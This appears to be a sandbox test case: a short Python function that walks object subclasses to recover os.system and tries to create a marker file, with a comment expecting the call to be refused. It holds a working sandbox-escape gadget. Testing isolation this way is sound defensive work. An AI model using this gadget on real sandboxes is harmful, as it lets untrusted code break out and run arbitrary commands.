# os is everywhere; what it asks the system for is refused
def f():
    for kind in ().__class__.__base__.__subclasses__():
        try: scope = kind.__init__.__globals__
        except AttributeError: continue
        if 'system' in scope:
            return 'ESCAPED' if scope['system']('touch /tmp/azlab-ESCAPED') == 0 else 'no'
    return 'no'
